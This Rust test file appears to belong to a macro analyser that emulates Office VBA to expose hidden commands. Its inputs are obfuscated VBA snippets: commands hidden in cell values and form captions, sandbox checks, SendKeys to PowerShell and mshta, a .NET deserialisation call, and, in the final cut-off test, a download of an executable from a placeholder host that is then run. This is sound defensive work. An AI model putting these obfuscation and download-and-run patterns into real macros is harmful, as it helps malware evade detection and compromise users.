//! What running macros shows: the classical ways to hide a text, and lookalikes that do nothing.

use super::*;
use crate::budget::{Budget, Limits};
use crate::languages::surroundings::{Cell, Shape, Sheet};
use crate::languages::{Action, ActionKind};

fn around() -> Surroundings {
    let control = |name: &str, properties: &[(&'static str, &str)]| Control {
        owner: "UserForm1".into(),
        name: name.into(),
        parent: String::new(),
        class: "Forms.Label.1".into(),
        properties: properties.iter().map(|(name, value)| (*name, (*value).to_owned())).collect(),
    };
    let cells =
        [((1, 1), Cell::Text("cmd /c cell".into())), ((2, 1), Cell::Number(99.0)), ((3, 1), Cell::Number(109.0))];
    Surroundings {
        controls: vec![
            control("Label1", &[("caption", "cmd /c caption"), ("tag", "cmd /c tag")]),
            control("UserForm1", &[("tag", "cmd /c form")]),
        ],
        variables: vec![("x".into(), "cmd /c variable".into())],
        properties: vec![("Comments".into(), "cmd /c comments".into())],
        shapes: vec![Shape {
            name: "Picture 1".into(),
            title: "cmd /c title".into(),
            alternative: "cmd /c alternative".into(),
            text: "cmd /c text".into(),
            ..Shape::default()
        }],
        sheets: vec![Sheet {
            name: "Data".into(),
            code_name: "Sheet1".into(),
            cells: cells.into_iter().collect(),
            cut: false,
        }],
        names: vec![("secret".into(), "Data!$A$1".into())],
        bookmarks: vec![("mark".into(), "cmd /c bookmark".into())],
        paragraphs: vec!["first".into(), "cmd /c paragraph".into()],
        custom_xml: vec!["<a>cmd</a>".into()],
        ..Surroundings::default()
    }
}

pub(super) fn all(modules: &[(&str, ModuleKind, &str)]) -> Vec<Action> {
    tests::behaviour(modules, &around()).actions
}

pub(super) fn details(kind: ActionKind, source: &str) -> Vec<String> {
    all(&[("M", ModuleKind::Standard, source)])
        .into_iter()
        .filter(|action| action.kind == kind && action.reached_by.is_some())
        .map(|action| action.detail)
        .collect()
}

pub(super) fn opened(body: &str) -> String {
    format!("Sub AutoOpen()\n{body}\nEnd Sub\n")
}

/// Each source does this, with that detail, whatever else it does.
pub(super) fn check<'t>(table: impl IntoIterator<Item = (ActionKind, String, &'t str)>) {
    let wrong: Vec<String> = table
        .into_iter()
        .filter_map(|(kind, source, expected)| {
            let found = details(kind, &source);
            (!found.iter().any(|detail| detail == expected))
                .then(|| format!("{source}\n-> {found:?}, not {expected}\n"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn runs(body: &str) -> Vec<String> {
    details(ActionKind::Run, &opened(body))
}

#[test]
fn a_page_that_opens_is_told_with_its_address() {
    for (call, address) in [
        ("ThisWorkbook.FollowHyperlink Address:=u & \"/login\"", "https://a.example/login"),
        ("Workbooks.Open u & \"/a.xls\"", "https://a.example/a.xls"),
        ("ActiveSheet.QueryTables.Add \"URL;\" & u & \"/r.csv\", Range(\"A1\")", "https://a.example/r.csv"),
        (
            "With Sheets(1).QueryTables.Add(Connection:=\"TEXT;\" & u & \"/r.csv\", Destination:=Range(\"A1\"))\n.Refresh\nEnd With",
            "https://a.example/r.csv",
        ),
        ("Documents.Add Template:=u & \"/a.dotx\"", "https://a.example/a.dotx"),
    ] {
        let told = details(ActionKind::View, &opened(&format!("u = \"https://\" & StrReverse(\"elpmaxe.a\")\n{call}")));
        assert_eq!(told, [address], "{call}");
    }
    // A template with macros is no page.
    let template = opened("u = StrReverse(\"elpmaxe.a//:sptth\")\nDocuments.Add Template:=u & \"/a.dotm\"");
    assert_eq!(details(ActionKind::Download, &template), ["https://a.example/a.dotm"]);
    let source = opened("ThisWorkbook.FollowHyperlink \"C:\\a.pdf\"\nWorkbooks.Open \"a.xls\"");
    assert!(details(ActionKind::View, &source).is_empty());
}

#[test]
fn ways_to_hide_a_text() {
    let table: &[(&str, &str)] = &[
        ("Shell Chr(99) & Chr(&H6D) & Chr$(100) & \" /c x\"", "cmd /c x"),
        ("Shell Replace(\"cZZmZZd /c x\", \"ZZ\", \"\")", "cmd /c x"),
        ("t = \"c1m2d3 4/5c6 7x\"\nFor i = 1 To Len(t) Step 2\ns = s & Mid(t, i, 1)\nNext\nShell s", "cmd /c x"),
        (
            "k = Array(1, 2, 3)\na = Array(98, 111, 103)\nFor i = 0 To UBound(a)\ns = s & Chr(a(i) Xor k(i Mod 3))\nNext i\nShell s",
            "cmd",
        ),
        ("Shell StrReverse(\"x c/ dmc\")", "cmd /c x"),
        (
            "Shell Chr(vbKeyC) & ChrW(wdKeyM) & VBA.Chr(VBA.vbKeyD) & Chr(vbKeySpace + vbRed - 254 - vbOK) & \"x\"",
            "CMD x",
        ),
        ("For Each n In Array(99, 109, 100)\ns = s + Chr(n)\nNext\nShell s", "cmd"),
        ("Shell Join(Split(\"c#m#d\", \"#\"), \"\")", "cmd"),
        (
            "p = Split(\"99,109,100\", \",\")\nFor i = LBound(p) To UBound(p)\ns = s & Chr(CInt(p(i)))\nNext\nShell s",
            "cmd",
        ),
        (
            "h = \"636D64\"\nDo While Len(h) > 0\ns = s & Chr(CLng(\"&H\" & Left(h, 2)))\nh = Mid(h, 3)\nLoop\nShell s",
            "cmd",
        ),
        ("Dim b(2) As Byte\nb(0) = 99: b(1) = 109: b(2) = 100\nShell StrConv(b, vbUnicode)", "cmd"),
        (
            "Dim b() As Byte\nb = StrConv(\"dne\", vbFromUnicode)\nFor i = 0 To UBound(b): b(i) = b(i) - 1: Next\nShell StrConv(b, 64)",
            "cmd",
        ),
        ("s = Space(3)\nMid(s, 1, 1) = \"c\"\nMid$(s, 2) = \"md\"\nShell s", "cmd"),
        ("Shell UserForm1.Label1.Caption", "cmd /c caption"),
        ("Shell UserForm1.Label1.Tag", "cmd /c tag"),
        ("Shell UserForm1.Tag", "cmd /c form"),
        ("Shell UserForm1.Controls(\"Label1\").Caption", "cmd /c caption"),
        ("Shell ActiveDocument.Variables(\"x\").Value", "cmd /c variable"),
        ("Shell ActiveDocument.Variables(\"x\")", "cmd /c variable"),
        ("Shell ActiveDocument.BuiltInDocumentProperties(\"Comments\")", "cmd /c comments"),
        ("Shell ThisWorkbook.BuiltinDocumentProperties(\"Comments\").Value", "cmd /c comments"),
        ("Shell Worksheets(\"Data\").Range(\"A1\").Value", "cmd /c cell"),
        ("Shell Sheet1.Cells(1, 1)", "cmd /c cell"),
        ("Shell Sheets(1).Range(\"$A$1\").Value2", "cmd /c cell"),
        ("Shell [secret]", "cmd /c cell"),
        ("Shell Range(\"secret\")", "cmd /c cell"),
        ("For r = 2 To 3\ns = s & Chr(Sheet1.Cells(r, 1).Value)\nNext\nShell s & \"d\"", "cmd"),
        ("For Each c In Sheet1.Range(\"A2:A3\")\ns = s & Chr(c.Value)\nNext\nShell s & \"d\"", "cmd"),
        ("Shell ActiveDocument.Shapes(\"Picture 1\").AlternativeText", "cmd /c alternative"),
        ("Shell ActiveDocument.Shapes(1).TextFrame.TextRange.Text", "cmd /c text"),
        ("Shell ActiveDocument.InlineShapes(1).Title", "cmd /c title"),
        ("Shell ActiveDocument.Bookmarks(\"mark\").Range.Text", "cmd /c bookmark"),
        ("Shell Replace(ActiveDocument.Paragraphs(2).Range.Text, vbCr, \"\")", "cmd /c paragraph"),
        (
            "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"a\", \"cmd\"\nd(\"b\") = \" /c x\"\nShell d(\"a\") & d.Item(\"b\")",
            "cmd /c x",
        ),
        ("Dim c As New Collection\nc.Add \"cmd\"\nc.Add \" x\", \"k\"\nShell c(1) & c(\"k\")", "cmd x"),
        (
            "n = 3\nSelect Case n\nCase 1, 2: s = \"no\"\nCase 3 To 5: s = \"cmd\"\nCase Else: s = \"x\"\nEnd Select\nShell s",
            "cmd",
        ),
        (
            "n = 0\na:\nn = n + 1\nIf n = 1 Then GoTo b\nIf n = 2 Then GoTo c\nGoTo d\nb:\ns = s & \"cm\"\nGoTo a\nc:\ns = s & \"d\"\nGoTo a\nd:\nShell s",
            "cmd",
        ),
        ("If Environ(\"USERNAME\") = \"sandbox\" Then Exit Sub\nShell \"cmd\" & Chr(47)", "cmd/"),
        ("x = Application.Version\nIf x > 10 Then\ns = Chr(99) & \"md\"\nShell s\nEnd If", "cmd"),
        ("Cells(5, 5) = \"cmd\"\nShell Cells(5, 5).Value & \" x\"", "cmd x"),
        (
            "With CreateObject(\"Microsoft.XMLDOM\").createElement(\"b\")\n.DataType = \"bin.base64\"\n.Text = \"Y21kIC9jIHg=\"\nShell StrConv(.nodeTypedValue, vbUnicode)\nEnd With",
            "cmd /c x",
        ),
        (
            "Set d = CreateObject(\"MSXML2.DOMDocument\")\nSet n = d.createElement(\"b\")\nn.dataType = \"bin.hex\"\nn.Text = \"636d64\"\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write n.nodeTypedValue\ns.Position = 0\ns.Type = 2\ns.Charset = \"us-ascii\"\nShell s.ReadText",
            "cmd",
        ),
        (
            "s = \"cmd\"\nCallByName CreateObject(\"WScript\" & Chr(46) & \"Shell\"), StrReverse(\"nuR\"), 1, s & \" x\"",
            "cmd x",
        ),
        (
            "Dim w: Set w = CreateObject(\"WScript.Shell\")\nw.Run w.ExpandEnvironmentStrings(\"%TEMP%\") & \"\\a.exe\"",
            "%TEMP%\\a.exe",
        ),
        ("For i = 1 To 100000000\nDoEvents\nNext\nShell \"cm\" & Chr(100)", "cmd"),
        ("On Error GoTo hit\nx = 1 / 0\nShell \"no\"\nExit Sub\nhit:\nShell \"cm\" & Chr(100)", "cmd"),
        ("s = \"cm\" _\n & \"d\"\nShell (s)", "cmd"),
        ("Dim a(1 To 2, 0 To 1)\na(1, 0) = \"c\": a(2, 1) = \"md\"\nShell a(1, 0) & a(2, 1)", "cmd"),
        ("v = Val(\"&H63\")\nShell ChrW(v) & ChrW(109) & ChrW(&H64)", "cmd"),
        ("Shell IIf(1 = 1, \"cmd\", \"x\") & Switch(False, 1, True, 2) & Choose(2, 5, 6)", "cmd26"),
        ("Shell Format(\"cmd\") & LCase(\"X\") & Trim(\"  y \")", "cmdxy"),
        ("While i < 3\ns = s & Mid$(\"cmd\", i + 1, 1)\ni = i + 1\nWend\nShell s", "cmd"),
    ];
    check(table.iter().map(|(body, expected)| (ActionKind::Run, opened(body), *expected)));
}

#[test]
fn numbers_and_texts_out_of_dates() {
    let table: &[(&str, &str)] = &[
        ("Shell Chr(DateDiff(\"d\", #1/1/2020#, #4/9/2020#)) & \"md\"", "cmd"),
        ("Dim d As Date\nd = DateSerial(2020, 12, 31)\nd = d + 1\nShell Chr(Month(d) + 98) & \"md\"", "cmd"),
        ("Shell Chr(Day(DateAdd(\"m\", 1, DateSerial(2020, 1, 31))) + 70) & \"md\"", "cmd"),
        ("Shell Chr(Year(CDate(\"2020/01/05\")) - 1921) & \"md\"", "cmd"),
        ("Shell Chr(DateSerial(2020, 4, 9) - DateSerial(2020, 1, 1)) & \"md\"", "cmd"),
        ("Shell Chr(95 + Weekday(#1/1/2020#)) & Chr(DatePart(\"y\", #4/18/2020#)) & \"d\"", "cmd"),
        ("Shell Chr(Minute(TimeValue(\"10:39:00\")) + 60) & Chr(Hour(#1:00 PM#) + 96) & \"d\"", "cmd"),
        (
            "Shell \"a\" & Format(DateSerial(2020, 1, 9), \"yyyymmdd\") & Format(1234.5, \"#,##0.0\")",
            "a202001091,234.5",
        ),
        // Both ways, and what the clock says is not known.
        ("If Now > #1/1/2019# Then s = \"c\": Shell s & \"md\"", "cmd"),
        ("If Now > #1/1/2039# Then s = \"c\": Shell s & \"md\"", "cmd"),
        ("Shell \"cmd \" & Format(Now, \"yyyy\") & Year(Date) & #1/2/2020#", "cmd …"),
        ("Shell Chr(Day(\"1/2/2020\") + 97) & \"md\"", "…md"),
    ];
    for (body, expected) in table {
        assert_eq!(runs(body), [*expected], "{body}");
    }
}

#[test]
fn more_ways_to_hide_a_text() {
    let class = "Enum E\na = 98\nb\nEnd Enum\nStatic Function N()\nDim i\ni = i + 33\nN = Chr(i)\nEnd Function\n";
    let table: &[(&str, &str)] = &[
        ("Shell Chr(E.b) & \"md\"", "cmd"),
        ("N\nN\nShell N & \"md\"", "cmd"),
        ("Shell StrConv(ChrW(&HFF43) & ChrW(&HFF4D) & ChrW(&HFF44), vbNarrow)", "cmd"),
        ("On Error GoTo h\nErr.Raise 99, , \"md\"\nExit Sub\nh:\nShell Chr(Err.Number) & Err.Description", "cmd"),
        ("Set d = New Scripting.Dictionary\nd.CompareMode = 1\nd(\"A\") = \"cmd\"\nShell d(\"a\")", "cmd"),
        ("Set l = CreateObject(\"System.Collections.ArrayList\")\nl.Add \"cmd\"\nl.Add \"x\"\nShell l(0)", "cmd"),
        (
            "Set r = CreateObject(\"VBScript.RegExp\")\nr.Pattern = \"[xy]\"\nr.Global = True\nShell r.Replace(\"cxmyd\", \"\")",
            "cmd",
        ),
        ("Shell Chr(WorksheetFunction.Sum(90, 9)) & Application.Text(\"md\", \"@\")", "cmd"),
    ];
    for (body, expected) in table {
        assert_eq!(details(ActionKind::Run, &format!("{class}{}", opened(body))), [*expected], "{body}");
    }
}

#[test]
fn what_is_only_shown_is_no_program() {
    let shell = |command: &str| format!("CreateObject(\"WScript.Shell\").Run {command}, 1");
    let write = "Open ThisWorkbook.Path & \"\\a.exe\" For Output As #1\n".replace("\\\\", "\\");
    for command in [
        "\"\"\"\" & ThisWorkbook.Path & \"\\my book.pdf\"\"\"",
        "\"https://intra.example/help\"",
        "\"C:\\Program Files\\Edge\\msedge.exe https://intra.example/help\"",
        "\"explorer.exe \" & ThisWorkbook.Path",
        "\"explorer.exe /select,\" & ThisWorkbook.Path & \"\\a.xlsx\"",
        "\"explorer C:\\out\\\"",
    ] {
        let body = format!("{write}{}", shell(&command.replace("\\\\", "\\")));
        assert!(runs(&body).is_empty(), "{command} {:?}", runs(&body));
    }
    for command in [
        "\"%COMSPEC% /c C:\\a.txt\"",
        "Range(\"Z9\").Value & \".pdf\"",
        "\"C:\\Windows\\System32\\wscript.exe //e:vbscript C:\\a.txt\"",
        "\"C:\\Windows\\System32\\mshta \\\\a.example\\x.txt\"",
        "\"msedge.exe --load-extension=C:\\x https://a.example/\"",
        "\"msedge.exe https://a.example/a.exe\"",
        "\"explorer.exe C:\\out\\a.exe\"",
        "\"explorer.exe \" & Range(\"Z9\").Value",
        "\"C:\\a.csv\"",
        "\"C:\\a.txt:b.exe\"",
    ] {
        let body = format!("{write}{}", shell(&command.replace("\\\\", "\\")));
        assert_eq!(runs(&body).len(), 1, "{command}");
    }
    let declare = "Declare Function SE Lib \"shell32\" Alias \"ShellExecuteA\" (a, b, c, d, e, f)\n";
    let of = |call: &str| details(ActionKind::Run, &format!("{declare}{}", opened(call)));
    assert!(of("SE 0, \"open\", ThisWorkbook.Path & \"\\a.pdf\", \"\", \"\", 1").is_empty());
    assert_eq!(of("SE 0, \"open\", \"bash\", \"C:/a.txt\", \"\", 1"), ["bash C:/a.txt"]);
}

/// What offices do when a book is opened.
#[test]
fn the_morning_of_an_office() {
    let table = [
        "Set w = CreateObject(\"WScript.Shell\")\nw.Popup \"更新\", 3\nRange(\"A1\") = w.SpecialFolders(\"Desktop\")",
        "Set s = CreateObject(\"WScript.Shell\").CreateShortcut(CreateObject(\"WScript.Shell\").SpecialFolders(\"Desktop\") & \"\\a.lnk\")\ns.TargetPath = ThisWorkbook.FullName\ns.Save",
        "For Each p In GetObject(\"winmgmts:\").ExecQuery(\"Select * from Win32_Process\")\nn = n + 1\nNext",
        "Set d = CreateObject(\"Shell.Application\").BrowseForFolder(0, \"選択\", 0)\nCreateObject(\"Shell.Application\").Open d.Self.Path",
        "Application.Run \"PERSONAL.XLSB!初期化\"\nApplication.Run \"'\" & ThisWorkbook.Path & \"\\共通.xlsm'!ログ\"",
        "v = ExecuteExcel4Macro(\"'C:\\[b.xlsx]S'!R1C1\")\nExecuteExcel4Macro \"PAGE.SETUP(,,)\"",
        "ActiveDocument.AttachedTemplate = \"\\\\fs01\\templates\\letter.dotm\"",
        "AddIns.Add \"\\\\fs01\\templates\\letter.dotm\", True\nApplication.RegisterXLL ThisWorkbook.Path & \"\\a.xll\"",
        "Set c = CreateObject(\"ADODB.Connection\")\nc.Execute \"SELECT 社員, Seashell(1) FROM t\"",
        "Application.OrganizerCopy a, b, \"見出し\", wdOrganizerObjectStyles",
        "Set x = CreateObject(\"MSXML2.DOMDocument\")\nx.Load ThisWorkbook.Path & \"\\a.xsl\"\nMsgBox y.transformNode(x)",
        "ActiveSheet.Hyperlinks.Add(Range(\"A1\"), \"https://www.example/\").Follow",
        "Workbooks.Open \"\\\\fs01\\a.xlsx\"\nShell \"explorer.exe \\\\fs01\\share\", 1",
    ];
    for body in table {
        let grave: Vec<Action> =
            all(&[("M", ModuleKind::Standard, &opened(body))]).into_iter().filter(|a| a.kind.is_grave()).collect();
        assert!(grave.is_empty(), "{body} {grave:?}");
    }
}

#[test]
fn scripts_that_were_written_before_are_read() {
    let script = "CreateObject(\"\"MSXML2.XMLHTTP\"\").Open \"\"GET\"\", \"\"http://a.example/list.php\"\"";
    let path = "p = Environ(\"TEMP\") & \"\\a.xml\"\n";
    let start = "CreateObject(\"WScript.Shell\").Run \"wscript //e:vbscript \" & p\n";
    for write in [
        format!("Open p For Output As #1\nPrint #1, \"{script}\"\nClose #1\n"),
        format!(
            "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(p, True)\nf.WriteLine \"{script}\"\nf.Close\n"
        ),
        format!(
            "With CreateObject(\"ADODB.Stream\")\n.Type = 2\n.Open\n.WriteText \"{script}\"\n.SaveToFile p, 2\nEnd With\n"
        ),
    ] {
        let mut behaviour =
            tests::behaviour(&[("M", ModuleKind::Standard, &opened(&format!("{path}{write}{start}")))], &around());
        behaviour.decode_commands(&Budget::new(Limits::default(), |_| ())).unwrap();
        let found = behaviour.actions.iter().find(|action| action.detail.contains("http://a.example/list.php"));
        assert!(found.is_some_and(|action| action.decoded_from.is_some()), "{write} {:?}", behaviour.actions);
    }
}

#[test]
fn what_is_typed_into_a_console_is_run() {
    let of = |body: &str| details(ActionKind::Run, &opened(body));
    assert_eq!(of("SendKeys \"^{ESC}\"\nSendKeys \"powershell -w h x~\""), ["powershell -w h x"]);
    let letters = "For Each c In Array(\"msh\", \"ta http:\", \"//a.example/\")\nSendKeys c\nNext\n";
    assert_eq!(of(&format!("{letters}Application.SendKeys \"{{ENTER}}\"")), ["mshta http://a.example/"]);
    for honest in ["\"{ENTER}\"", "\"^c\"", "\"%{F11}%TEsecret~~\"", "\"start of the list~\"", "\"cmd is a word~\""] {
        assert!(of(&format!("SendKeys {honest}, True")).is_empty(), "{honest}");
    }
}

#[test]
fn objects_of_net_run_what_they_are_read_from() {
    let class = "\"System.Runtime.Serialization.Formatters.Binary.\" & StrReverse(\"rettamroFyraniB\")";
    let body = format!("Set f = CreateObject({class})\nf.Deserialize_2 m");
    assert_eq!(details(ActionKind::Inject, &opened(&body)), ["deserialize_2"]);
}

#[test]
fn a_version_hides_no_program() {
    let hidden = |name: &str| details(ActionKind::Hidden, &opened(&format!("Set o = CreateObject({name})"))).len();
    assert_eq!(hidden("\"Excel.Application.\" & Int(Val(Application.Version))"), 0);
    assert_eq!(hidden("\"Excel.Applicatio\" & Range(\"Z9\")"), 1);
    assert_eq!(hidden("Range(\"Z9\") & \".Application.\""), 1);
}

const BASE64: &str = "Function Decode(ByVal s As String) As String\n\
Const b = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"\n\
Dim n As Long, g As Long, i As Long, j As Long, c As String, o As String, p As Integer\n\
For n = 1 To Len(s) Step 4\np = 3: g = 0\nFor j = 0 To 3\nc = Mid$(s, n + j, 1)\nIf c = \"=\" Then\np = p - 1: i = 0\n\
Else\ni = InStr(1, b, c, vbBinaryCompare) - 1\nEnd If\nIf i = -1 Then Exit Function\ng = 64 * g + i\nNext\n\
c = Hex(g)\nc = String(6 - Len(c), \"0\") & c\n\
o = o & Left(Chr(CByte(\"&H\" & Mid(c, 1, 2))) + Chr(CByte(\"&H\" & Mid(c, 3, 2))) + Chr(CByte(\"&H\" & Mid(c, 5, 2))), p)\n\
Next n\nDecode = o\nEnd Function\n";

#[test]
fn functions_that_decode() {
    let xor = "Function X(d, k)\nFor i = 1 To Len(d) Step 2\nX = X & Chr(Val(\"&H\" & Mid(d, i, 2)) Xor Asc(Mid(k, ((i \\ 2) Mod Len(k)) + 1, 1)))\nNext\nEnd Function\n";
    let shift = "Private Function S(t As String, n As Integer) As String\nDim c As Variant, r\nFor p = 1 To Len(t)\nr = r & Chr$(Asc(Mid$(t, p, 1)) - n)\nNext\nLet S = r\nEnd Function\n";
    let by_ref = "Sub Add(ByRef s As String, c)\ns = s & Chr(c)\nEnd Sub\n";
    let list = "Function L(ParamArray n())\nFor Each c In n\nL = L & ChrW(c)\nNext\nEnd Function\n";
    let recursive = "Function R(s)\nIf Len(s) > 1 Then R = R(Mid(s, 2)) & Left(s, 1) Else R = s\nEnd Function\n";
    let record = "Private Type P\nname As String\nn(3) As Byte\nEnd Type\n";
    let table: &[(&str, &str, &str)] = &[
        (BASE64, "Shell Decode(\"Y21kIC9jIHg=\")", "cmd /c x"),
        (xor, "Shell X(\"020F06\", \"abb\")", "cmd"),
        (shift, "Shell S(\"fpg\", 3)", "cmd"),
        (by_ref, "Dim t As String\nAdd t, 99\nCall Add(t, 109)\nAdd c:=100, s:=t\nShell t", "cmd"),
        (list, "Shell L(99, 109, 100)", "cmd"),
        (recursive, "Shell R(\"dmc\")", "cmd"),
        (
            record,
            "Dim a As P, b(2) As P\na.name = \"cm\"\na.n(1) = 100\nb(1).name = \"x\"\nWith a\n.name = .name & Chr(.n(1))\nEnd With\nShell a.name & b(1).name",
            "cmdx",
        ),
        (
            "Const A = \"cm\", B = A & \"d\"\nEnum E\none = 99\ntwo\nEnd Enum\nPublic g\nSub Make()\ng = B & Chr(two)\nEnd Sub\n",
            "Make\nShell g",
            "cmdd",
        ),
        (
            "Function F(Optional a = \"cmd\", Optional b)\nIf IsMissing(b) Then F = a Else F = b\nEnd Function\n",
            "Shell F & F(b:=\"x\")",
            "cmdx",
        ),
        (
            "Sub Later()\nShell \"cm\" & Chr(100)\nEnd Sub\n",
            "Application.OnTime Now + TimeValue(\"00:00:05\"), \"Lat\" & \"er\"",
            "cmd",
        ),
        ("Function Id(x)\nStatic n\nn = n + 1\nId = x & n\nEnd Function\n", "Id 1\nShell Id(\"cmd\")", "cmd2"),
    ];
    for (other, body, expected) in table {
        let found = details(ActionKind::Run, &format!("{other}{}", opened(body)));
        assert!(found.iter().any(|detail| detail == expected), "{body}\n-> {found:?}, not {expected}");
    }
}

#[test]
fn more_of_the_language() {
    let table: &[(&str, &str, &str)] = &[
        ("Shell# \"cm\" & Chr(100), 0", "", "cmd"),
        ("Interaction.Shell StrReverse(\"dmc\")", "", "cmd"),
        ("x = VBA.Strings.Chr(99) & VBA.ChrW$(109) & VBA.Mid$(\"xd\", 2)\nVBA.Shell x", "", "cmd"),
        (
            "p = \"winmg\" & \"mts:Win32_Process\"\nSet o = GetObject(p)\no.Create \"cm\" & Chr(100), Null, Null, i",
            "",
            "cmd",
        ),
        (
            "Set l = CreateObject(\"WbemScripting.SWbemLocator\")\nSet s = l.ConnectServer(\".\", \"root\\cimv2\")\ns.Get(\"Win32_Process\").Create StrReverse(\"dmc\")",
            "",
            "cmd",
        ),
        (
            "Dim b() As Byte\nb = F(StrConv(\"bmd\", vbFromUnicode))\nShell StrConv(b, vbUnicode)",
            "Function F(a() As Byte) As Byte()\na(0) = a(0) + 1\nF = a\nEnd Function",
            "cmd",
        ),
        (
            "Dim a()\nReDim a(0)\na(0) = \"c\"\nReDim Preserve a(2)\na(1) = \"m\": a(2) = \"d\"\nFor i = UBound(a) To 0 Step -1\ns = a(i) & s\nNext\nShell s",
            "",
            "cmd",
        ),
        (
            "Do\ni = i + 1\nIf i = 2 Then s = s & \"cm\": GoTo n\nIf i > 3 Then Exit Do\nn:\nLoop While i < 10\nShell s & \"d\"",
            "",
            "cmd",
        ),
        ("GoSub g\nShell s\nExit Sub\ng:\ns = \"cm\" & Chr(100)\nReturn", "", "cmd"),
        ("i = 2\nOn i GoTo a, b\na:\nShell \"no\"\nb:\nShell StrReverse(\"dmc\")", "", "cmd"),
        (
            "Select Case True\nCase 1 > 2: s = \"x\"\nCase 2 > 1: s = StrReverse(\"dmc\")\nEnd Select\nShell s",
            "",
            "cmd",
        ),
        ("s = Application.Run(\"M.F\", 3)\nShell s", "Function F(n)\nF = Left(\"cmdx\", n)\nEnd Function", "cmd"),
        (
            "a = Split(\"c,m,d\", \",\")\nFor i = 0 To 2: s = s + a(i): Next i\nIf Len(s) = 3 Then: Shell s: Else: Shell \"no\"",
            "",
            "cmd",
        ),
        ("s = \"c\" + \"m\" + CStr(Chr$(&H64&))\nShell s", "", "cmd"),
        ("Shell ChrW(CLng(\"&H\" & \"63\")) & ChrW(2 ^ 6 + 45) & Chr(Asc(\"e\") - 1)", "", "cmd"),
        ("Shell Chr(198 / 2) & Chr(218 \\ 2) & Chr(1100 Mod 1000)", "", "cmd"),
        ("v = Array(Array(99, 109), Array(100))\nShell Chr(v(0)(0)) & Chr(v(0)(1)) & Chr(v(1)(0))", "", "cmd"),
        (
            "With CreateObject(\"Scripting.Dictionary\")\n.Item(\"a\") = \"cmd\"\nFor Each k In .Keys\nShell .Item(k)\nNext\nEnd With",
            "",
            "cmd",
        ),
        (
            "Set d = CreateObject(\"Scripting.Dictionary\")\nFor i = 1 To 3\nd(Mid(\"xyz\", i, 1)) = Mid(\"cmd\", i, 1)\nNext\nFor Each c In Array(\"x\", \"y\", \"z\")\ns = s & d(c)\nNext\nShell s",
            "",
            "cmd",
        ),
        ("On Error Resume Next\nErr.Raise 5\nShell \"cm\" & Chr(100)", "", "cmd"),
        ("For i = 1 To LenB(\"cmd\") Step 2\ns = s & Chr(AscB(MidB(\"cmd\", i, 1)))\nNext\nShell s", "", "cmd"),
        (
            "If Dir(\"C:\\sandbox\") <> \"\" Then\nElse\nCall CallByName(CreateObject(\"Shell.Application\"), \"Shell\" & \"Execute\", VbMethod, StrReverse(\"dmc\"))\nEnd If",
            "",
            "cmd",
        ),
        (
            "Set o = CreateObject(\"Shell.Application\")\no.Windows.Item.Document.Application.ShellExecute \"cm\" & Chr(100), Chr(47) & \"c\", \"\", Null, 0",
            "",
            "cmd /c",
        ),
        ("Set e = CreateObject(\"System.Text.UTF8Encoding\")\nShell e.GetString(e.GetBytes_4(\"cmd\"))", "", "cmd"),
        ("s = \"cmd\"\nSet w = New WshShell\nw.Exec s & \" x\"", "", "cmd x"),
        ("ExecuteExcel4Macro StrReverse(\")\"\"dmc\"\"(CEXE\")", "", "EXEC(\"cmd\")"),
        (
            "Set h = CreateObject(\"htmlfile\")\nh.parentWindow.execScript StrReverse(\"tpircs\") & \"x()\", \"JScript\"",
            "",
            "scriptx()",
        ),
        ("Dim t As String * 3\nt = \"cmdx\"\nShell t", "", "cmd"),
        ("#If VBA7 Then\ns = \"cm\"\n#Else\ns = \"no\"\n#End If\nShell s & Chr(100)", "", "cmd"),
        ("10 s = \"cm\"\n20 Shell s & Chr(100)", "", "cmd"),
        ("If 1 Then If 0 Then Shell \"no\" Else Shell StrReverse(\"dmc\")", "", "cmd"),
        ("For i = 1 To 3: For j = 1 To 1\ns = s & Mid(\"cmd\", i, j)\nNext j, i\nShell s", "", "cmd"),
        ("Shell ThisDocument.CustomDocumentProperties(\"Comments\")", "", "cmd /c comments"),
        (
            "For Each p In ActiveDocument.Paragraphs\nIf InStr(p.Range.Text, \"cmd\") > 0 Then Shell Split(p.Range.Text, vbCr)(0)\nNext",
            "",
            "cmd /c paragraph",
        ),
        ("For Each s In ActiveDocument.Shapes\nShell s.AlternativeText\nNext", "", "cmd /c alternative"),
        ("For Each c In UserForm1.Controls\nShell c.Caption\nNext", "", "cmd /c caption"),
        ("Sheets(\"Data\").Select\nShell ActiveSheet.Range(\"A1\")", "", "cmd /c cell"),
        ("v = Sheet1.Range(\"A1:A3\").Value\nShell v(1, 1)", "", "cmd /c cell"),
        ("ThisWorkbook.Sheets(\"Data\").Range(\"B7\").Value = \"cmd\"\nShell Sheet1.Range(\"B7\")", "", "cmd"),
    ];
    check(table.iter().map(|(body, other, expected)| (ActionKind::Run, format!("{}{other}", opened(body)), *expected)));
}

#[test]
fn classes_and_forms() {
    let class = "Private k As String\nPublic Text As String\nPrivate Sub Class_Initialize()\nk = \"cm\"\nEnd Sub\n\
                 Property Get Out() As String\nOut = k & Text\nEnd Property\nProperty Let Key(v)\nk = k & v\nEnd Property\n";
    let main = opened(
        "Dim o As New C, p As Object\nSet p = New C\no.Key = \"d\"\no.Text = \" x\"\nShell o.Out\nShell p.Out & \"!\"",
    );
    let found = all(&[("M", ModuleKind::Standard, &main), ("C", ModuleKind::Class, class)]);
    let details: Vec<&str> = found.iter().map(|action| action.detail.as_str()).collect();
    assert_eq!(details, ["cmd x", "cm!"]);
    let form = "Private Sub UserForm_Initialize()\nShell Label1.Caption\nEnd Sub";
    let found = all(&[("M", ModuleKind::Standard, &opened("UserForm1.Show")), ("UserForm1", ModuleKind::Form, form)]);
    assert_eq!(found[0].detail, "cmd /c caption");
}

#[test]
fn what_is_fetched_stored_and_kept() {
    let body = "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nu = StrReverse(\"x/elpmaxe.a//:ptth\")\nh.Open \"GET\", u, False\nh.Send\n\
                Set s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.Type = 1\ns.Write h.responseBody\ns.SaveToFile Environ(\"TEMP\") & \"\\a.exe\", 2\n\
                CreateObject(\"WScript.Shell\").Run Environ(\"TEMP\") & \"\\a.exe\"";
    let found = all(&[("M", ModuleKind::Standard, &opened(body))]);
